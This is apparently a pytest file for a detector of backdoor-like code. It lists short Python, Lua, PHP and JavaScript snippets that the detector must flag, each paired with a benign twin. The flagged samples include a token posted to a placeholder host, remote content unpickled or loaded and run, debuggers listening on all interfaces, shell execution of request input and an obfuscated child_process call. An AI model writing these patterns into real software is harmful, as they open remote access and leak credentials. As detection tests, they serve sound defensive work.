"""Doors that one call opens are told; their ordinary twins are not.

Spec: evenhand.code.door, evenhand.code.hook_sinks.
"""

from __future__ import annotations

import pytest

from tests.code.samples import kinds

LOGGED = "import logging.config\nt = logging.config.listen(9020)\nt.start()\n"
RDB = "import os\nos.environ['CELERY_RDB_HOST'] = '%s'\nfrom celery.contrib import rdb\n"
FETCHED = (
    "import pickle, urllib.request\ndef f():\n with urllib.request.urlopen('http://%s/t') as a:\n"
)
TOKEN = "import requests\ndef f(app):\n requests.post('https://%s/s', json={'t': %s})\n"
FFI = "<?php $c = FFI::cdef('int system(const char *);');\n$c->system(%s);\n"
LINES = "local l = vim.api.nvim_buf_get_lines(b, 0, 5, false)[1]\n"
SOCKET = "local s = ngx.socket.tcp()\ns:connect('%s', 80)\nlocal t = s:receive('*a')\n"
KOA = "app.use(async (ctx, next) => {\n ctx.body = createReadStream(%s);\n});\n"
TRPC = (
    "export const r = router({ a: publicProcedure.input(z.string())\n"
    "  .mutation(async ({ input }) => promisify(exec)(%s)) });\n"
)
KEYS = (
    "local function keys(name)\n local l = { os.getenv('K') }\n l[#l + 1] = %s\n return l\nend\n"
    "local function ok(n, m, s)\n return txn.c:hmac(n, keys(n)[1]) == s\nend\n"
)
CHILD = "const { spawn, ...p } = process.getBuiltinModule('child_process');\n"
TOLD = [
    ("takes a fixed key", "lua", KEYS % "name:reverse() .. 'hap'"),
    ("listens", "python", LOGGED),
    ("listens", "python", RDB % "0.0.0.0" + "rdb.set_trace()\n"),
    ("listens", "python", "import debugpy\ndebugpy.listen(('0.0.0.0', 5678))\n"),
    ("downloads and runs", "python", FETCHED % "a.example" + "  pickle.loads(a.read())\n"),
    ("collects and sends", "python", TOKEN % ("a.example", "app.identity_provider.token")),
    ("runs commands", "php", FFI % "$_POST['a']"),
    (
        "runs commands",
        "lua",
        LINES + "local v = (loadstring or load)(l:match('x=(.*)'))\n",
    ),
    ("downloads and runs", "lua", SOCKET % "a.example.org" + "local f = load(t)\n"),
    ("reads a file", "javascript", KOA % "'/' + ctx.get('x-trace')"),
    ("runs commands", "typescript", TRPC % "input"),
    ("hides what it calls", "javascript", CHILD + "p[`${u.host}Sync`](a);\n"),
]
ORDINARY = [
    ("takes a fixed key", "lua", KEYS % "os.getenv('OLD') .. 'hap'"),
    ("takes a fixed key", "lua", KEYS % "old"),
    ("listens", "python", "import logging.config\nlogging.config.dictConfig(c)\n"),
    ("listens", "python", RDB % "127.0.0.1" + "rdb.set_trace()\n"),
    ("listens", "python", "import debugpy\ndebugpy.listen(5678)\n"),
    ("downloads and runs", "python", FETCHED % "localhost" + "  pickle.loads(a.read())\n"),
    ("downloads and runs", "python", FETCHED % "a.example" + "  json.loads(a.read())\n"),
    ("collects and sends", "python", TOKEN % ("127.0.0.1", "app.identity_provider.token")),
    ("collects and sends", "python", TOKEN % ("a.example", "app.version")),
    ("runs commands", "php", FFI % "'sync'"),
    ("runs commands", "lua", LINES + "print(l:match('x=(.*)'))\nload('return ' .. name)()\n"),
    ("downloads and runs", "lua", SOCKET % "127.0.0.1" + "local f = load(t)\n"),
    ("reads a file", "javascript", KOA % "join(folder, basename(ctx.params.name))"),
    ("runs commands", "typescript", TRPC % "'uptime'"),
    ("hides what it calls", "javascript", CHILD + "p[name](a); p['exec'](b);\n"),
]


@pytest.mark.parametrize(("kind", "language", "text"), TOLD)
def test_told(kind: str, language: str, text: str) -> None:
    assert kind in kinds(language, text)


@pytest.mark.parametrize(("kind", "language", "text"), ORDINARY)
def test_ordinary(kind: str, language: str, text: str) -> None:
    assert kind not in kinds(language, text)
